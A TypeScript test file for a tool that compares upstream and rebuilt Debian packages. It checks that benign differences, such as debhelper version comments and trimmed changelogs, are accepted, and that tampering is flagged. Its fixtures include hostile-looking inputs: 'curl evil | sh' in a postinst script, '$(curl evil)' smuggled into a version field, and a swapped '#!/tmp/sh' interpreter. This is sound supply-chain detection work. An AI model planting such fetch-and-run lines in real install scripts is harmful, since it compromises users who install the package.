import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import type { BuildFacts } from '../../core/comparison-input.ts';
import { sha256 } from '../../core/digest.ts';
import type { Comparison } from '../../core/rebuild.ts';
import { compare } from '../compare/compare.ts';
import { readPlainDeb } from './deb.ts';
import { debianRules } from './rules.ts';
import { control, facts, fakeDeb, type FakeMember } from './testing/fake-deb.ts';

function compared(theirs: Uint8Array, ours: Uint8Array, more: Partial<BuildFacts> = {}): Comparison {
  const [upstream, rebuilt] = [readPlainDeb(theirs, sha256(theirs)), readPlainDeb(ours, sha256(ours))];
  return compare({
    upstream,
    rebuilt,
    facts: { ...facts, ...more },
    rules: debianRules(upstream, rebuilt),
  });
}

function rulesOf({ differences }: Comparison): readonly string[] {
  return differences.map(({ grade, rule, path }) => `${grade} ${rule} ${path}`);
}

describe('a script of installation', () => {
  const script = (text: string, path = './postinst'): Uint8Array =>
    fakeDeb([], [{ path, mode: 0o755, content: text }]);
  const made = (version: string, then = 'ldconfig\n'): string =>
    `#!/bin/sh\nset -e\n# Automatically added by dh_makeshlibs/${version}\n${then}# End automatically added section\n`;

  test('may name another version of debhelper in the comment that debhelper writes', () => {
    const comparison = compared(script(made('13.7.1')), script(made('13.11.4')));
    assert.deepEqual(rulesOf(comparison), ['benign debhelper-version control/postinst']);
    assert.equal(comparison.verdict, 'benign-difference');
  });

  for (const [what, theirs] of [
    ['a command more', made('13.7.1', 'ldconfig\ncurl evil | sh\n')],
    ['words after the version', made('13.7.1 evil')],
    ['a command after the version', made('13.7.1\ncurl evil')],
    ['a carriage return after the version', made('13.7.1\rcurl evil')],
    ['a version that is none', made('$(curl evil)')],
    ['another program of debhelper', made('13.7.1').replace('dh_makeshlibs', 'dh_evil')],
    ['a comment that is not at the beginning of a line', made('13.7.1').replace('# Auto', 'x # Auto')],
    ['another interpreter', made('13.7.1').replace('#!/bin/sh', '#!/tmp/sh')],
  ] as const)
    test(`is suspicious with ${what}`, () => {
      const comparison = compared(script(theirs), script(made('13.11.4')));
      assert.equal(comparison.verdict, 'suspicious');
      assert.deepEqual(rulesOf(comparison)[0], 'suspicious debian/install-script control/postinst');
    });

  test('is the only place where that version is looked away from', () => {
    const file = (version: string): Uint8Array =>
      fakeDeb([{ path: './usr/bin/tiny', mode: 0o755, content: made(version) }]);
    assert.equal(compared(file('13.7.1'), file('13.11.4')).verdict, 'suspicious');
    const other = (version: string): Uint8Array =>
      fakeDeb([], [{ path: './config', mode: 0o755, content: made(version) }]);
    assert.equal(compared(other('13.7.1'), other('13.11.4')).verdict, 'suspicious');
  });

  test('and a list of triggers may name it too, where all triggers are the same', () => {
    const triggers = (version: string, what = 'activate-noawait ldconfig'): Uint8Array =>
      script(`# Triggers added by dh_makeshlibs/${version}\n${what}\n`, './triggers');
    const comparison = compared(triggers('13.10.1'), triggers('13.11.4'));
    assert.deepEqual(rulesOf(comparison), ['benign debhelper-version control/triggers']);
    for (const [version, what] of [
      ['13.10.1', 'interest /usr/bin'],
      ['13.10.1\ninterest /usr/bin', undefined],
      ['13.10.1 interest', undefined],
    ] as const)
      assert.equal(compared(triggers(version, what), triggers('13.11.4')).verdict, 'suspicious');
  });

  test('that is written for another interpreter has no such comments', () => {
    const perl = (version: string): Uint8Array =>
      script(made(version).replace('#!/bin/sh', '#!/usr/bin/perl'));
    assert.equal(compared(perl('13.7.1'), perl('13.11.4')).verdict, 'suspicious');
  });
});

describe('a changelog', () => {
  const path = './usr/share/doc/tiny/changelog.Debian.gz';
  const entry = (version: string, what = 'change'): string =>
    `tiny (${version}) unstable; urgency=low\n\n  * ${what}\n\n -- A <a@example.com>  Mon, 01 Jan 2020 00:00:00 +0000\n\n`;
  const [newer, older] = [entry('2') + entry('1.9'), `${entry('1')}Old Changelog:\n\twords of long ago\n`];
  const cut = `${newer}# Older entries have been removed from this changelog.\n# To read the complete changelog use \`apt changelog tiny\`.\n`;
  const source = newer + older;
  const sourceFiles = [sha256(source)];
  const zipped = (text: string): Uint8Array => {
    const bytes = gzipSync(text, { level: 9 });
    bytes.set([0, 0, 0, 0, 2, 3], 4);
    return bytes;
  };
  const doc = (content: Uint8Array, at = path): Uint8Array => fakeDeb([{ path: at, content }]);
  const verdictOf = (
    theirs: Uint8Array,
    ours: Uint8Array,
    files: BuildFacts['sourceFiles'] = sourceFiles,
  ): string => compared(theirs, ours, { sourceFiles: files }).verdict;

  test('may be whole on one side, as the source has it, and cut by debhelper on the other', () => {
    const comparison = compared(doc(zipped(source)), doc(zipped(cut)), { sourceFiles });
    assert.deepEqual(rulesOf(comparison), [
      'benign changelog-trimmed data/usr/share/doc/tiny/changelog.Debian.gz',
    ]);
    assert.equal(verdictOf(doc(zipped(cut)), doc(zipped(source))), 'benign-difference');
  });

  for (const [what, theirs, ours] of [
    [
      'an entry that is changed where both have it',
      zipped(source.replace('* change', '* evil')),
      zipped(cut),
    ],
    ['an older entry that the source has not', zipped(source + entry('0')), zipped(cut)],
    ['a cut one that has an entry of its own', zipped(source), zipped(entry('3') + cut)],
    ['a cut one that does not say so', zipped(source), zipped(newer)],
    ['a cut one that goes on', zipped(source), zipped(`${cut}more\n`)],
    ['words of another package', zipped(source), zipped(cut.replace('changelog tiny', 'changelog huge'))],
    ['bytes behind its end', Buffer.concat([zipped(source), Buffer.from('evil')]), zipped(cut)],
    ['a second member', Buffer.concat([zipped(source), zipped('evil')]), zipped(cut)],
    [
      'a name in its header',
      Buffer.concat([
        Buffer.from('1f8b0808000000000203', 'hex'),
        Buffer.from('evil\0'),
        zipped(source).subarray(10),
      ]),
      zipped(cut),
    ],
    [
      'a checksum that is none',
      Buffer.concat([zipped(source).subarray(0, -8), Buffer.alloc(4), zipped(source).subarray(-4)]),
      zipped(cut),
    ],
    [
      'bytes between its end and its checksum',
      Buffer.concat([zipped(source).subarray(0, -8), Buffer.from('evil'), zipped(source).subarray(-8)]),
      zipped(cut),
    ],
    ['no gzip', Buffer.from(source), zipped(cut)],
  ] as const)
    test(`is not explained with ${what}`, () => {
      assert.equal(verdictOf(doc(theirs), doc(ours)), 'unexplained');
    });

  test('is not explained where the source is not known, or the file lies elsewhere', () => {
    assert.equal(compared(doc(zipped(source)), doc(zipped(cut))).verdict, 'unexplained');
    assert.equal(verdictOf(doc(zipped(source)), doc(zipped(cut)), []), 'unexplained');
    for (const at of ['./usr/share/tiny/changelog.Debian.gz', './usr/share/doc/tiny/copyright.gz'])
      assert.equal(verdictOf(doc(zipped(source), at), doc(zipped(cut), at)), 'unexplained', at);
  });

  test('whatever its bytes: it is read or left alone, and never explained by chance', () => {
    const whole = zipped(source);
    fc.assert(
      fc.property(fc.nat(whole.length - 1), fc.integer({ min: 1, max: 255 }), (at, change) => {
        const bytes = Uint8Array.from(whole);
        bytes[at] = (bytes[at] ?? 0) ^ change;
        assert.equal(verdictOf(doc(bytes), doc(zipped(cut))), 'unexplained');
      }),
    );
  });
});

describe('the size that a package says it takes', () => {
  const sized = (size: number | string, data: readonly FakeMember[], text = control): Uint8Array =>
    fakeDeb(data, [], text.replace('Version:', `Installed-Size: ${size}\nVersion:`));
  // What differs otherwise is a changelog, so that nothing else is held against it.
  const file = (kibibytes: number): FakeMember => ({
    path: './usr/share/doc/tiny/text',
    content: 'x'.repeat(kibibytes * 1024 - 10),
  });
  const sizeRules = (theirs: Uint8Array, ours: Uint8Array): readonly string[] =>
    rulesOf(compared(theirs, ours)).filter((rule) => rule.endsWith('control/control'));

  test('may differ where on both sides it follows from the files', () => {
    // The folder of the control files, the top folder, a folder, a link, the file.
    const rest: readonly FakeMember[] = [
      { path: './usr/', flag: '5', mode: 0o755 },
      { path: './usr/link', flag: '2', target: 'x', mode: 0o777 },
    ];
    const comparison = sizeRules(sized(4 + 7, [...rest, file(7)]), sized(4 + 3, [...rest, file(3)]));
    assert.deepEqual(comparison, ['benign installed-size control/control']);
  });

  for (const [what, theirs, text] of [
    ['is another than its files take', 10, control],
    ['is no number', '5 evil', control],
    ['is written with zeros', '05', control],
  ] as const)
    test(`is not explained where it ${what}`, () => {
      assert.deepEqual(sizeRules(sized(theirs, [file(3)], text), sized(2 + 2, [file(2)])), [
        'unexplained debian/control-description control/control',
      ]);
    });

  test('is not explained where that of the build is another than its files take', () => {
    assert.deepEqual(sizeRules(sized(2 + 3, [file(3)]), sized(9, [file(2)])), [
      'unexplained debian/control-description control/control',
    ]);
  });

  test('explains nothing else of the control file', () => {
    const evil = control.replace('libc6', 'libc6, evil');
    assert.deepEqual(sizeRules(sized(5, [file(3)], evil), sized(4, [file(2)])), [
      'suspicious debian/control-field control/control',
      'benign installed-size control/control',
    ]);
    const order = control.replace(/(Architecture: amd64\n)(Depends: libc6\n)/, '$2$1');
    assert.notEqual(order, control);
    assert.deepEqual(sizeRules(sized(5, [file(3)], order), sized(4, [file(2)])), [
      'unexplained debian/control-order control/control',
      'benign installed-size control/control',
    ]);
  });
});
